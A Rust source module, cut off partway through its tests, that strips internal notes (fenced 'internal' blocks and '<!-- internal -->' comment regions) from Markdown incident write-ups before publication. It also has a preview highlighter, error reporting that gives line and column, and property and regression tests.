//! Internal notes: parts of a write-up for the team only, removed from public builds.
//!
//! Two forms are recognized, so analysts can use whichever their editor makes easy:
//!
//! ````markdown
//! ```internal
//! Call the mayor's office before publishing.
//! ```
//!
//! Text <!-- internal -->with a private aside<!-- /internal --> goes on.
//! ````
//!
//! Removal happens on the Markdown text, before anything else reads it, so no output (page,
//! summary, feed, search index, export) can see a note. Removed lines are left blank (keeping
//! only the blockquote markers and indentation of the blocks around them), so line numbers in
//! later messages still match the file. The word `internal` is matched in any ASCII case, in
//! both forms.
//!
//! The two forms are found differently, each in the way that cannot miss a note:
//!
//! - Comment markers are plain text to look for: they count everywhere, even inside code
//!   blocks and inline code. When in doubt, casebook removes.
//! - A fenced block is only a block if Markdown reads it as one, so pulldown-cmark, the parser
//!   that renders the body, finds them, with the same options. A note is then found at any
//!   depth (in a blockquote, a list item, a footnote), and a line that only looks like a fence
//!   (inline code in triple backticks at the start of a line, a fence inside an HTML block)
//!   cannot make the search lose its place. An earlier search line by line did both, and
//!   published notes.
//!
//! Where the writer's intent and Markdown's reading could differ, the build stops rather than
//! guess: a note opened but never closed, or closed without being opened, and a line that looks
//! like the start of an ```` ```internal ```` block but that Markdown reads as text (inside
//! another code block, an HTML block, an indented code block…), which would be published.
//! Notes are only removed from the body: [`in_front_matter`] finds one written in front
//! matter, for the caller to report as an error.

use std::borrow::Cow;
use std::ops::Range;

use pulldown_cmark::{CodeBlockKind, Event, Parser, Tag, TagEnd};

use crate::content::markdown::is_internal_info;

/// A problem with internal-note markers, at a 1-based line and column of the text read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MarkerError {
    /// The line of the marker at fault.
    pub line: usize,
    /// The column (in characters) of the marker at fault.
    pub column: usize,
    /// What is wrong.
    pub message: String,
    /// What to do about it.
    pub help: &'static str,
}

impl MarkerError {
    /// The error as a diagnostic of the file `path`, where the text it was found in starts on
    /// line `first_line` (the front matter's or the body's).
    pub fn located(self, path: &std::path::Path, first_line: usize) -> crate::base::error::Diagnostic {
        let at = crate::base::error::Location::at(path, first_line + self.line - 1, self.column);
        crate::base::error::Diagnostic::at(at, self.message).with_help(self.help)
    }
}

/// Help for notes the build cannot remove.
const CANNOT_REMOVE_HELP: &str =
    "internal notes are removed from public builds; an unclosed one cannot be, so the build stops";

impl MarkerError {
    /// An error at byte `offset` of `text`.
    fn at(text: &str, offset: usize, message: impl Into<String>, help: &'static str) -> Self {
        let before = &text[..offset];
        let line_start = before.rfind('\n').map_or(0, |i| i + 1);
        MarkerError {
            line: before.bytes().filter(|&b| b == b'\n').count() + 1,
            column: before[line_start..].chars().count() + 1,
            message: message.into(),
            help,
        }
    }
}

/// A comment of `text` that opens, closes or looks like an internal note.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Marker {
    /// `<!-- internal -->`.
    Open,
    /// `<!-- /internal -->`.
    Close,
    /// A comment starting with the word `internal` that is neither (`<!-- internal: call
    /// Bob -->`, `<!--internal--!>`, a `<!-- internal` never ended): the writer meant a note,
    /// which casebook cannot tell the end of, so the build stops rather than publish it.
    Lookalike,
}

/// The next comment of `text` that is a [`Marker`]: its kind and byte range. The markers are
/// matched with any spacing (line breaks too, CRLF or not) and case, and extra dashes
/// (`<!--- internal --->`, a common comment style).
fn next_marker(text: &str) -> Option<(Marker, usize, usize)> {
    let mut from = 0;
    while let Some(start) = memchr::memmem::find(&text.as_bytes()[from..], b"<!--").map(|i| i + from) {
        let after = &text[start + 4..];
        let trimmed = after.trim_start_matches(|c: char| c.is_whitespace() || c == '-');
        let (closing, word) = match trimmed.strip_prefix('/') {
            Some(rest) => (true, rest.trim_start()),
            None => (false, trimmed),
        };
        let names_a_note = word.as_bytes().get(..8).is_some_and(|w| w.eq_ignore_ascii_case(b"internal"))
            && !word[8..].starts_with(|c: char| c.is_alphanumeric() || c == '_');
        if names_a_note {
            let Some(end) = after.find("-->") else {
                return Some((Marker::Lookalike, start, text.len()));
            };
            let inner = after[..end].trim_matches(|c: char| c.is_whitespace() || c == '-');
            let inner = if closing { inner.strip_prefix('/').map_or("", str::trim_start) } else { inner };
            let kind = match (inner.eq_ignore_ascii_case("internal"), closing) {
                (true, false) => Marker::Open,
                (true, true) => Marker::Close,
                (false, _) => Marker::Lookalike,
            };
            return Some((kind, start, start + 4 + end + 3));
        }
        from = start + 4;
    }
    None
}

/// Whether `text` may hold a note: the word `internal` (any case) right after a comment's
/// `<!--` (spaces and `/` between) or a fence run of three backticks or tildes (spaces, `{`
/// and `.` between), as [`find_marker`] and [`fence_before`] look for it, only looser.
///
/// Every body goes through this first and nearly none has a note. The bytes that begin a
/// comment or a fence are few even in bodies with code blocks, and found by one vectorized
/// search; searching for the word's first letter instead stopped at every `i` of the text
/// (7-13% of the benchmark theme's time at 10,000 incidents).
fn may_hold_notes(text: &str) -> bool {
    first_candidate(text).is_some()
}

/// Where [`may_hold_notes`] finds the first place a note may start. Looser than the markers
/// themselves, so that nothing Markdown could read as a note is let through: any spacing
/// (Unicode spaces too), and `{`, `.` and `\` before the word; an entity (`&#105;nternal`)
/// where the word of a fence would be.
fn first_candidate(text: &str) -> Option<usize> {
    let bytes = text.as_bytes();
    let word_at = |rest: &str| rest.as_bytes().get(..8).is_some_and(|w| w.eq_ignore_ascii_case(b"internal"));
    // One pass for the three bytes that begin a comment or a fence: `<` and `~` are rare in
    // prose, and backticks few.
    memchr::memchr3_iter(b'<', b'`', b'~', bytes).find(|&at| {
        let rest = &text[at..];
        match bytes[at] {
            b'<' => rest.strip_prefix("<!--").is_some_and(|inner| {
                word_at(inner.trim_start_matches(|c: char| c.is_whitespace() || c == '/' || c == '-'))
            }),
            fence => {
                let fence = char::from(fence);
                let after = rest.trim_start_matches(fence);
                let info =
                    after.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '{' | '.' | '\\'));
                rest.len() - after.len() >= 3
                    && (word_at(info) || info.starts_with('&') || braced_note(after))
            }
        }
    })
}

/// Whether the info string at the start of `after` (what follows a fence run) is an attribute
/// list that may name a note anywhere in it (`{#id .internal}`), or hide the word behind an
/// entity: looser than [`is_internal_info`], for the cheap test.
fn braced_note(after: &str) -> bool {
    let info = after.trim_start().trim_start_matches('\\');
    if !info.starts_with('{') {
        return false;
    }
    let line = &info[..info.find('\n').unwrap_or(info.len())];
    line.contains('&') || line.as_bytes().windows(8).any(|w| w.eq_ignore_ascii_case(b"internal"))
}

/// Where the word `internal` starts in `text`, in any ASCII case: a search for the first
/// letter rather than a lowercased copy of the text.
fn word_positions(text: &str) -> impl Iterator<Item = usize> + '_ {
    let bytes = text.as_bytes();
    memchr::memchr2_iter(b'i', b'I', bytes)
        .filter(move |&i| bytes.get(i..i + 8).is_some_and(|w| w.eq_ignore_ascii_case(b"internal")))
}

/// For the word `internal` at `at`, the start of the first run of three or more backticks or
/// tildes on its line before it: a fence that may open a note (`{#id .internal}` may stand
/// between the two). A test on the text alone, looser than Markdown's rule, so that bodies
/// without any skip the parser.
fn fence_before(text: &str, at: usize) -> Option<usize> {
    let bytes = text.as_bytes();
    let line_start = text[..at].rfind('\n').map_or(0, |i| i + 1);
    let start = line_start + bytes[line_start..at].iter().position(|&b| b == b'`' || b == b'~')?;
    let run = bytes[start..at].iter().take_while(|&&b| b == bytes[start]).count();
    (run >= 3).then_some(start)
}

/// Whether `prefix`, the start of a line, holds nothing but the markers of blocks that can
/// hold a fenced block: blockquote `>`, list items (`-`, `+`, `*`, `1.`, `1)`, with or without
/// a task box), footnote labels (`[^1]:`) and indentation.
fn is_container_prefix(prefix: &str) -> bool {
    let mut rest = prefix;
    loop {
        rest = rest.trim_start_matches([' ', '\t', '>']);
        if rest.is_empty() {
            return true;
        }
        let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
        // `:` too, though Markdown here has no definition lists: a writer used to them who puts
        // a note after `: ` gets an error rather than a published note.
        let after = if let Some(r) = rest.strip_prefix(['-', '+', '*', ':']) {
            r
        } else if (1..=9).contains(&digits) && rest[digits..].starts_with(['.', ')']) {
            &rest[digits + 1..]
        } else if let Some(r) = ["[ ]", "[x]", "[X]"].iter().find_map(|task| rest.strip_prefix(task)) {
            r
        } else if rest.starts_with("[^")
            && let Some(end) = rest.find("]:")
        {
            &rest[end + 2..]
        } else {
            return false;
        };
        if !(after.is_empty() || after.starts_with([' ', '\t'])) {
            return false;
        }
        rest = after;
    }
}

/// Whether the fence run starting at byte `fence` opens a note by the look of its line alone:
/// nothing but container markers before it, and an info string naming a note (without a
/// backtick, for a backtick fence: Markdown, and the writer, would mean inline code).
fn looks_like_note_fence(text: &str, fence: usize) -> bool {
    let line_start = text[..fence].rfind('\n').map_or(0, |i| i + 1);
    let line_end = text[fence..].find('\n').map_or(text.len(), |i| fence + i);
    let line = &text[fence..line_end];
    let Some(c) = line.chars().next() else { return false };
    let info = line.trim_start_matches(c);
    is_container_prefix(&text[line_start..fence])
        && !(c == '`' && info.contains('`'))
        && is_internal_info(info)
}

/// Removes every internal note from Markdown `text`. Borrows when there is none (the usual
/// case, and the fast one).
pub fn strip(text: &str) -> Result<Cow<'_, str>, MarkerError> {
    process(text, false)
}

/// Sentinels standing for the edges of notes in [`mark`]ed Markdown: private-use characters
/// around a word, which Markdown passes through as text and no writer types.
const BLOCK_OPEN: &str = "\u{F8FF}casebook-internal-block\u{F8FF}";
const BLOCK_CLOSE: &str = "\u{F8FF}/casebook-internal-block\u{F8FF}";
const INLINE_OPEN: &str = "\u{F8FF}casebook-internal\u{F8FF}";
const INLINE_CLOSE: &str = "\u{F8FF}/casebook-internal\u{F8FF}";

/// What stands for a removed block that was the first thing in a list item or a footnote: a
/// link reference definition, which renders as nothing but keeps the item open. Left blank,
/// the line would make an empty item and push what follows it out of the list (an item may
/// start with one blank line, not more). The label is private-use text no writer types.
const REMOVED_BLOCK: &str = "[\u{F8FF}casebook-removed-note\u{F8FF}]: <>";

/// Keeps internal notes but marks their edges, for the preview, which shows them highlighted:
/// render the result as Markdown, then pass the HTML through [`highlight`]. Block notes (a
/// fenced block, or a comment region whose markers stand on lines of their own) become
/// paragraphs of their own; notes within a line stay inline.
pub fn mark(text: &str) -> Result<Cow<'_, str>, MarkerError> {
    process(text, true)
}

/// Turns the sentinels of [`mark`]ed Markdown, rendered to HTML, into highlighted elements
/// labelled as internal.
pub fn highlight(html: &str) -> String {
    const BLOCK_STYLE: &str = "display:block;background:#fff3bf;color:#3b2f00;border:2px dashed #e67700;\
                               padding:0.25em 1em;margin:1em 0";
    const INLINE_STYLE: &str = "background:#fff3bf;color:#3b2f00;outline:1px dashed #e67700";
    html.replace(
        &format!("<p>{BLOCK_OPEN}</p>"),
        &format!(
            "<aside class=\"casebook-internal\" style=\"{BLOCK_STYLE}\" aria-label=\"Internal note\">\
             <p><strong>Internal note</strong> (shown in the preview only; never published)</p>"
        ),
    )
    .replace(&format!("<p>{BLOCK_CLOSE}</p>"), "</aside>")
    .replace(INLINE_OPEN, &format!("<mark class=\"casebook-internal\" style=\"{INLINE_STYLE}\" title=\"Internal note: never published\">"))
    .replace(INLINE_CLOSE, "</mark>")
    // Sentinels that did not land where expected (inside code, a heading): dropped.
    .replace(BLOCK_OPEN, "")
    .replace(BLOCK_CLOSE, "")
}

/// The first internal-note marker, of either form, in front matter `yaml`, as an error at its
/// line and column of `yaml`. Notes are only removed from the body: front matter values reach
/// pages, feeds, exports and templates as written (a timeline event's text is in the JSON
/// export), so a note there would be published; refusing it is the one rule that holds for
/// every field.
pub fn in_front_matter(yaml: &str) -> Option<MarkerError> {
    let at = first_candidate(yaml)?;
    Some(MarkerError::at(
        yaml,
        at,
        "an internal note in front matter would be published: notes are only removed from the Markdown body",
        "move the note below the front matter, into the body; to hold back a whole incident, use `draft: true` \
         or `embargo:`",
    ))
}

fn process(text: &str, keep: bool) -> Result<Cow<'_, str>, MarkerError> {
    // Markdown ends a line at a lone carriage return too; the search for notes, which reads
    // lines by their line feeds, must see the lines Markdown sees (```` ```internal\rSECRET\r```
    // ```` was one line to it, inline code to Markdown, and published).
    if let Cow::Owned(normalized) = crate::base::frontmatter::normalize(text) {
        return process(&normalized, keep).map(|out| Cow::Owned(out.into_owned()));
    }
    if !may_hold_notes(text) {
        return Ok(Cow::Borrowed(text));
    }
    remove_notes(text, keep)
}

/// [`process`] without its first, cheap test.
fn remove_notes(text: &str, keep: bool) -> Result<Cow<'_, str>, MarkerError> {
    // Comments first: the text they hide may hold fence lines, which must not open blocks.
    let text = comments(text, keep)?;
    let notes = fenced_notes(&text)?;
    if notes.is_empty() {
        return Ok(text);
    }
    Ok(Cow::Owned(remove_fenced(&text, &notes, keep)))
}

/// Removes (or marks, when `keep`) the `<!-- internal -->` … `<!-- /internal -->` regions of
/// `text`, wherever they are. A removed region keeps its line breaks, so the line count stays
/// and the text after it does not join the paragraph before.
///
/// Markers are found in the whole text, not line by line: a marker may itself be written over
/// several lines (`<!--\ninternal\n-->`), which a search line by line never saw, and published.
fn comments(text: &str, keep: bool) -> Result<Cow<'_, str>, MarkerError> {
    let Some(first) = next_marker(text) else {
        return Ok(Cow::Borrowed(text));
    };
    let mut out = String::with_capacity(text.len());
    let mut copied = 0;
    let mut found = Some(first);
    while let Some((kind, start, end)) = found.map(|(k, s, e)| (k, s + copied, e + copied)) {
        match kind {
            Marker::Close => {
                return Err(MarkerError::at(
                    text,
                    start,
                    "`<!-- /internal -->` closes an internal note that was never opened",
                    CANNOT_REMOVE_HELP,
                ));
            }
            Marker::Lookalike => return Err(lookalike(text, start)),
            Marker::Open => {}
        }
        // The region ends at the next closing marker: another opening marker or a look-alike
        // before it is part of the note, and goes with it.
        let mut close = None;
        let mut from = end;
        while let Some((k, s, e)) = next_marker(&text[from..]) {
            match k {
                Marker::Close => {
                    close = Some((from + s, from + e));
                    break;
                }
                // Removed with the note, as is any marker in it.
                Marker::Lookalike | Marker::Open => from += e,
            }
        }
        let Some((close_start, close_end)) = close else {
            return Err(MarkerError::at(
                text,
                start,
                "`<!-- internal -->` is never closed: add `<!-- /internal -->` where the note ends",
                CANNOT_REMOVE_HELP,
            ));
        };
        out.push_str(&text[copied..start]);
        if keep {
            // A block when each marker stands on a line of its own.
            let line_start = text[..start].rfind('\n').map_or(0, |i| i + 1);
            let line_end = text[close_end..].find('\n').map_or(text.len(), |i| close_end + i);
            let open_line_end = text[end..].find('\n').map_or(text.len(), |i| end + i);
            let close_line_start = text[..close_start].rfind('\n').map_or(0, |i| i + 1);
            let block = text[line_start..start].trim().is_empty()
                && text[end..open_line_end].trim().is_empty()
                && text[close_line_start..close_start].trim().is_empty()
                && text[close_end..line_end].trim().is_empty();
            if block {
                out.push_str(&format!("\n\n{BLOCK_OPEN}\n\n"));
                out.push_str(&text[end..close_start]);
                out.push_str(&format!("\n\n{BLOCK_CLOSE}\n\n"));
            } else {
                out.push_str(INLINE_OPEN);
                out.push_str(&text[end..close_start]);
                out.push_str(INLINE_CLOSE);
            }
        } else {
            out.extend(text[start..close_end].chars().filter(|&c| c == '\n'));
        }
        copied = close_end;
        found = next_marker(&text[copied..]);
    }
    out.push_str(&text[copied..]);
    Ok(Cow::Owned(out))
}

/// The error for a comment at byte `at` of `text` that names a note but is not a marker.
fn lookalike(text: &str, at: usize) -> MarkerError {
    MarkerError::at(
        text,
        at,
        "this comment looks like an internal-note marker but is not one, so the note would be published",
        "write the note between `<!-- internal -->` and `<!-- /internal -->`, each marker holding nothing else",
    )
}

/// A fenced block that is a note, as pulldown-cmark reads it.
struct Note {
    /// From its opening fence to the end of its closing one.
    range: Range<usize>,
    /// Its content, line by line where it is in a blockquote or a list item: without the
    /// markers and indentation of those blocks, which stay so that the blocks go on.
    texts: Vec<Range<usize>>,
}

/// The fenced blocks of `text` that are notes, in order. Errors for a note that is never closed
/// (Markdown would end it where its blockquote or list item ends, and publish what the writer
/// meant as its rest) and for a line that looks like a note's fence but is not one.
fn fenced_notes(text: &str) -> Result<Vec<Note>, MarkerError> {
    let mut fences: Vec<usize> = word_positions(text).filter_map(|at| fence_before(text, at)).collect();
    // The parser runs whatever the word search found: Markdown decodes escapes and entities in
    // a fence's info string (`&#105;nternal`), and the spacing before it may be any space.
    let mut notes = Vec::new();
    let mut open: Option<Note> = None;
    for (event, range) in Parser::new_ext(text, crate::content::markdown::options()).into_offset_iter() {
        match event {
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))) if is_internal_info(&info) => {
                open = Some(Note { range, texts: Vec::new() });
            }
            Event::Text(_) => {
                if let Some(note) = &mut open {
                    note.texts.push(range);
                }
            }
            Event::End(TagEnd::CodeBlock) => notes.extend(open.take()),
            _ => {}
        }
    }
    if let Some(note) = notes.iter().find(|note| !is_closed(text, note)) {
        return Err(MarkerError::at(
            text,
            note.range.start,
            "the ```internal block is never closed",
            CANNOT_REMOVE_HELP,
        ));
    }
    // A line that looks like a note's fence and is not in a note: Markdown reads it as text.
    // Even inside another code block, where it could be an example, it more likely follows a
    // fence left open by mistake, and what the writer meant as a note would be published.
    fences.dedup();
    if let Some(&fence) = fences
        .iter()
        .find(|&&f| looks_like_note_fence(text, f) && !notes.iter().any(|n| n.range.contains(&f)))
    {
        return Err(MarkerError::at(
            text,
            fence,
            "this line looks like the start of an ```internal block, but Markdown reads it as text here \
             (inside another code block, an HTML block, an indented code block or a paragraph), so it would be \
             published",
            "close the block before it, or put it after a blank line, indented like the text around it",
        ));
    }
    Ok(notes)
}

/// Whether a note ends with a closing fence, rather than where the blocks around it end.
fn is_closed(text: &str, note: &Note) -> bool {
    let block = &text[note.range.clone()];
    let opener = block.trim_start_matches([' ', '\t']);
    let Some(c) = opener.chars().next() else { return false };
    let length = opener.chars().take_while(|&x| x == c).count();
    let body = block.strip_suffix('\n').unwrap_or(block);
    let Some(newline) = body.rfind('\n') else { return false };
    let last_start = note.range.start + newline + 1;
    // A line that is content cannot be the closing fence.
    if note.texts.iter().any(|t| t.end > last_start && !t.is_empty()) {
        return false;
    }
    let last = body[newline + 1..].trim_start_matches([' ', '\t', '>']);
    let run = last.chars().take_while(|&x| x == c).count();
    run >= length && last[run * c.len_utf8()..].trim().is_empty()
}

/// The start of a line of a note that belongs to the blocks around it (blockquote markers and
/// indentation before the line's content): `line` is the line without its break, `start` its
/// offset, `texts` the note's content not before it.
fn container_prefix<'t>(line: &'t str, start: usize, texts: &[Range<usize>]) -> &'t str {
    let mut length = line.bytes().take_while(|b| matches!(b, b' ' | b'\t' | b'>')).count();
    if let Some(t) = texts.first() {
        length = length.min(t.start.saturating_sub(start));
    }
    &line[..length]
}

/// `text` without its fenced `notes` (or with their edges marked, when `keep`).
fn remove_fenced(text: &str, notes: &[Note], keep: bool) -> String {
    let mut out = String::with_capacity(text.len() + 64 * notes.len());
    let mut copied = 0;
    for note in notes {
        let Range { start, end } = note.range.clone();
        out.push_str(&text[copied..start]);
        copied = end;
        let line_start = text[..start].rfind('\n').map_or(0, |i| i + 1);
        // A list marker or footnote label before the fence: the note begins the item.
        let begins_item = !text[line_start..start].bytes().all(|b| matches!(b, b' ' | b'\t' | b'>'));
        // Each line: its offset, its text without the line break, whether it has one.
        let mut lines = Vec::new();
        let mut offset = start;
        for line in text[start..end].split_inclusive('\n') {
            let bare = line.strip_suffix('\n').unwrap_or(line);
            lines.push((offset, bare.strip_suffix('\r').unwrap_or(bare), line.ends_with('\n')));
            offset += line.len();
        }
        // Lines and texts are both in order: each line only looks at the texts not before it.
        let mut texts = &note.texts[..];
        let mut prefixes = Vec::with_capacity(lines.len());
        for &(at, bare, _) in &lines {
            while texts.first().is_some_and(|t| t.end <= at) {
                texts = &texts[1..];
            }
            prefixes.push(container_prefix(bare, at, texts));
        }
        // What makes a blank line inside the blocks around the note.
        let blank = prefixes.get(1).copied().unwrap_or_default();
        let last = lines.len() - 1;
        for (i, &(_, bare, newline)) in lines.iter().enumerate() {
            match (keep, i) {
                (false, 0) if begins_item => out.push_str(REMOVED_BLOCK),
                (false, 0) => {}
                (false, _) => out.push_str(prefixes[i]),
                (true, 0) => {
                    if !begins_item {
                        // A paragraph of its own, apart from one that ends on the line before.
                        out.push('\n');
                        out.push_str(blank);
                    }
                    out.push_str(&format!("{BLOCK_OPEN}\n{blank}"));
                }
                (true, i) if i == last => {
                    out.push_str(&format!("{}\n{blank}{BLOCK_CLOSE}\n{blank}", prefixes[i]));
                }
                (true, _) => out.push_str(bare),
            }
            if newline {
                out.push('\n');
            }
        }
    }
    out.push_str(&text[copied..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    proptest::proptest! {
        /// The cheap test never lets a note, or a marker the build must stop at, through.
        #[test]
        fn text_the_cheap_test_passes_holds_no_note(
            parts in proptest::collection::vec(proptest::sample::select(vec![
                "internal", "Internal", "INTERNAL", "<!--", "-->", "```", "~~~", "`", " ", "\n", "/", "{", ".",
                "\u{a0}", "\u{2003}", "\\", "&#105;", "nternal", "-", "x", "> ", "- ", "1. ", "    ",
            ]), 0..40)
        ) {
            let text = parts.concat();
            if !may_hold_notes(&text) {
                for keep in [false, true] {
                    let stripped = remove_notes(&text, keep).map_err(|e| e.message);
                    proptest::prop_assert_eq!(stripped.as_deref(), Ok(text.as_str()));
                }
                // And the parser, which has the last word, sees no note in it either.
                let rendered = crate::content::markdown::render(&text, crate::content::markdown::Settings::default());
                proptest::prop_assert!(rendered.internal_blocks.is_empty(), "{:?}", text);
            }
        }
    }

    #[test]
    fn notes_the_parser_reads_through_spaces_escapes_and_entities_are_removed() {
        // Each once got past the word search and was published.
        for fence in [
            "```\u{a0}internal",
            "~~~\u{2003}internal",
            "```\\{.internal}",
            "```&#105;nternal",
            "``` \u{a0}{.Internal}",
        ] {
            let close = if fence.starts_with('~') { "~~~" } else { "```" };
            let text = format!("Intro.\n\n{fence}\nSECRET\n{close}\n\nAfter.\n");
            let stripped = strip(&text).unwrap_or_else(|e| panic!("{fence}: {}", e.message));
            assert!(!stripped.contains("SECRET"), "{fence}: {stripped}");
            assert!(stripped.contains("After."), "{fence}");
        }
    }

    /// Issue 28: markers written over several lines, with LF or CRLF line ends, were looked
    /// for line by line, never found, and the note published.
    #[test]
    fn markers_written_over_several_lines_are_found() {
        for text in [
            "Public.\n\n<!--\ninternal\n-->SECRET<!--\n/internal\n-->\n\nAfter.\n",
            "Public.\r\n\r\n<!--\r\ninternal\r\n-->SECRET<!--\r\n/internal\r\n-->\r\n\r\nAfter.\r\n",
            "Public.\n\n<!--   Internal\n\n-->\nSECRET\nSECRET\n<!--\n  /\n  internal -->\nAfter.\n",
            "Public <!--\tinternal\t-->SECRET<!-- /\tinternal\n--> after.\n",
        ] {
            let html = published(text);
            assert!(html.contains("After.") || html.contains("after."), "{text:?}: {html}");
        }
        assert_eq!(strip_ok("A<!--\ninternal\n-->x\ny<!--\n/internal\n-->B\n"), "A\n\n\n\n\nB\n");
        let e = strip("a\n<!--\ninternal\n-->\nSECRET\n").expect_err("unclosed");
        assert_eq!((e.line, e.column), (2, 1));
        let e = strip("a\n\nb <!--\n/internal\n-->\n").expect_err("unopened");
        assert_eq!((e.line, e.column), (3, 3));
    }

    /// Issue 28: attribute-style info strings (pandoc, markdown-it-attrs) were not notes to
    /// casebook, which published them as code.
    #[test]
    fn attribute_style_info_strings_are_notes() {
        for fence in [
            "```{ .internal }",
            "```{#id .internal}",
            "~~~ {.rust .Internal}",
            "```{#n internal}",
            "``` { .INTERNAL }",
        ] {
            let close = if fence.starts_with('~') { "~~~" } else { "```" };
            let html = published(&format!("Public.\n\n{fence}\nSECRET\n{close}\n\nAfter.\n"));
            assert!(html.contains("After."), "{fence}: {html}");
            let info = fence.trim_start_matches(['`', '~']);
            assert!(is_internal_info(info), "{info}");
        }
        for info in ["{.rust}", "{#internal}", "{ .internals }", "rust {.internal}"] {
            assert!(!is_internal_info(info), "{info}");
        }
        // Read as text (inside an HTML block), it stops the build as any other note would.
        let e = strip("<div>\n```{#id .internal}\nSECRET\n```\n</div>\n").expect_err("read as text");
        assert_eq!(e.line, 2);
    }

    /// Issue 28: Markdown ends a line at a lone `\r`; the search for notes did not, so a note
    /// written with old Mac line ends (or a mix) was one line to it, and published.
    #[test]
    fn notes_with_lone_carriage_returns_are_removed() {
        for text in [
            "```internal\rSECRET\r```\r",
            "Public.\r\n\r\n```internal\rSECRET\r```\r\nAfter.\n",
            "Public.\r\r<!-- internal -->\rSECRET\r<!-- /internal -->\rAfter.\r",
            "Public.\n\n~~~ internal\r\nSECRET\rSECRET\n~~~\r\rAfter.\n",
        ] {
            let stripped = strip_ok(text);
            let html = render(&stripped, Settings::default()).html;
            assert!(!html.contains("SECRET"), "{text:?}: {html}");
            assert!(!html.to_ascii_lowercase().contains("internal"), "{text:?}: {html}");
            assert_eq!(text.contains("After."), html.contains("After."), "{text:?}: {html}");
        }
        let e = strip("a\r\r```internal\rSECRET\r").expect_err("unclosed");
        assert_eq!(e.line, 3, "lines as Markdown counts them");
    }

    /// Issue 28: a comment naming a note that is not a marker cannot be removed: the build
    /// stops rather than show it (raw HTML is shown as text by default).
    #[test]
    fn comments_that_only_look_like_markers_are_errors() {
        for (text, column) in [
            ("Public <!-- internal: call Bob -->.\n", 8),
            ("Public <!--internal--!>SECRET<!--/internal--!>\n", 8),
            ("Public <!-- INTERNAL note\nSECRET\n", 8),
            ("Public <!-- /internal note --> x\n", 8),
        ] {
            let e = strip(text).expect_err(text);
            assert_eq!((e.line, e.column), (1, column), "{text}");
            assert!(e.message.contains("looks like an internal-note marker"), "{}", e.message);
        }
        // Inside a note, one goes with the note; and other comments are not notes.
        assert_eq!(strip_ok("a <!-- internal -->b <!-- internal: x --> c<!-- /internal --> d\n"), "a  d\n");
        for text in
            ["<!-- internals of the system -->\n", "<!-- an internal review -->\n", "<!-- internal_x -->\n"]
        {
            assert!(strip(text).is_ok(), "{text}");
        }
    }

    #[test]
    fn a_note_after_a_definition_list_marker_is_an_error() {
        let e = strip("Term\n: ```internal\n  SECRET\n  ```\n").expect_err("read as text, so published");
        assert!(e.message.contains("looks like the start of an ```internal block"), "{}", e.message);
    }

    #[test]
    fn comment_markers_with_extra_dashes_count() {
        let stripped = strip("A <!--- internal --->SECRET<!--- /internal ---> B\n").expect("closed");
        assert_eq!(stripped, "A  B\n");
        assert!(strip("A <!--- internal ---> SECRET\n").is_err(), "never closed");
    }

    #[test]
    fn the_renderer_reports_a_note_that_got_through() {
        let rendered = crate::content::markdown::render(
            "x\n\n```Internal\nSECRET\n```\n",
            crate::content::markdown::Settings::default(),
        );
        assert_eq!(rendered.internal_blocks, [3]);
        let attributes = crate::content::markdown::render(
            "x\n\n```{#id .internal}\nSECRET\n```\n",
            crate::content::markdown::Settings::default(),
        );
        assert_eq!(attributes.internal_blocks, [3]);
        let plain = crate::content::markdown::render(
            "```text\ninternal\n```\n",
            crate::content::markdown::Settings::default(),
        );
        assert!(plain.internal_blocks.is_empty());
    }

    #[test]
    fn only_a_comment_or_a_fence_before_the_word_may_hold_notes() {
        let none = "An internal review; ``inline`` code, ~~struck~~ text, <!-- a comment -->.\n\n```text\nlog\n```\n";
        assert!(!may_hold_notes(none));
        for text in [
            "<!-- internal -->x<!-- /internal -->",
            "x<!--\u{a0}/ INTERNAL-->",
            "```internal\nx\n```",
            "> ~~~~ {.Internal}\nx\n~~~~",
            "```curl x``` ```  internal",
        ] {
            assert!(may_hold_notes(text), "{text}");
        }
    }
    use crate::content::markdown::{Settings, render};

    fn strip_ok(text: &str) -> String {
        strip(text).expect("valid markers").into_owned()
    }

    /// The HTML of `text` once stripped, checked to hold no trace of a note.
    fn published(text: &str) -> String {
        let stripped = strip_ok(text);
        assert_eq!(stripped.lines().count(), text.lines().count(), "line count kept: {stripped:?}");
        let html = render(&stripped, Settings::default()).html;
        assert!(!html.contains("SECRET"), "{html}");
        assert!(!html.to_ascii_lowercase().contains("language-internal"), "{html}");
        assert!(!html.contains('\u{F8FF}'), "{html}");
        html
    }

    #[test]
    fn removes_fenced_internal_blocks() {
        let text = "Public.\n\n```internal\nSECRET one\n```\n\nMore.\n~~~~ internal note\nSECRET two\n~~~~\n";
        assert_eq!(strip_ok(text), "Public.\n\n\n\n\n\nMore.\n\n\n\n");
    }

    #[test]
    fn keeps_other_code_blocks() {
        let text = "```rust\nlet internal = 1;\n```\n";
        assert_eq!(strip_ok(text), text);
    }

    #[test]
    fn removes_comment_regions_inline_and_across_lines() {
        assert_eq!(strip_ok("A <!-- internal -->SECRET<!-- /internal --> B\n"), "A  B\n");
        assert_eq!(strip_ok("A\n<!--internal-->\nSECRET\nSECRET\n<!-- /Internal -->\nB\n"), "A\n\n\n\n\nB\n");
        assert_eq!(
            strip_ok("x <!-- internal -->a<!-- /internal --> y <!-- internal -->b<!-- /internal -->\n"),
            "x  y \n"
        );
    }

    #[test]
    fn line_count_is_kept() {
        let text = "a\n```internal\nx\n```\nb <!-- internal -->y\nz<!-- /internal --> c\nd\n";
        assert_eq!(strip_ok(text).lines().count(), text.lines().count());
    }

    #[test]
    fn markers_inside_code_blocks_still_count() {
        assert_eq!(strip_ok("```\nlog <!-- internal -->SECRET<!-- /internal -->\n```\n"), "```\nlog \n```\n");
        assert_eq!(strip_ok("Use `<!-- internal -->SECRET<!-- /internal -->` here.\n"), "Use `` here.\n");
    }

    #[test]
    fn unclosed_or_unopened_notes_are_errors() {
        let e = strip("a\n<!-- internal -->\nSECRET\n").expect_err("unclosed");
        assert_eq!((e.line, e.column), (2, 1));
        assert_eq!(strip("a\n\n```internal\nSECRET\n").expect_err("unclosed").line, 3);
        assert!(strip("a <!-- /internal -->\n").expect_err("unopened").message.contains("never opened"));
        assert_eq!(strip("a <!-- /internal -->\n").expect_err("unopened").column, 3);
        // Markdown ends a block at the end of its blockquote or list item; the writer's next
        // lines, outside it, would be published, so this is not closed either.
